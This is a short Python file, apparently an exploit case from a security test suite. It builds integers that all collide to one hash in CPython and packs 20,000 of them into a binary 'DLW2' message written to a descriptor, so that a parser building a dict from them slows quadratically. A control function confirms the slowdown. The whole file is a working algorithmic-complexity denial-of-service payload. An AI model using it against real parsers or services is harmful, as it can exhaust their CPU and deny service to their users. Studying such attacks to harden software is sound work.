# ruff: noqa
"""A dict whose keys all have the same hash.

defence: keys are short
control: own
wins: time
"""

import os, struct


def keys(count):
    for number in range(1, count + 1):
        yield number * ((1 << 61) - 1)


def frame(count):
    pieces = []
    for key in keys(count):
        raw = key.to_bytes(key.bit_length() // 8 + 1, "little", signed=True)
        pieces.append(b"I" + struct.pack("<I", len(raw)) + raw + b"N")
    header = b"M" + struct.pack("<I", 1) + b"S" + struct.pack("<I", 5) + b"value"
    header += b"M" + struct.pack("<I", count) + b"".join(pieces)
    return b"DLW2" + struct.pack("<QQ", len(header), 0) + header


def trophy():
    os.write(3, frame(20_000))
    os._exit(0)


def control(arena):
    """Building such a dict takes time that grows with the square."""
    import time

    def seconds(count):
        started = time.thread_time()
        dict.fromkeys(keys(count))
        return time.thread_time() - started

    return seconds(4000) > 6 * seconds(1000)
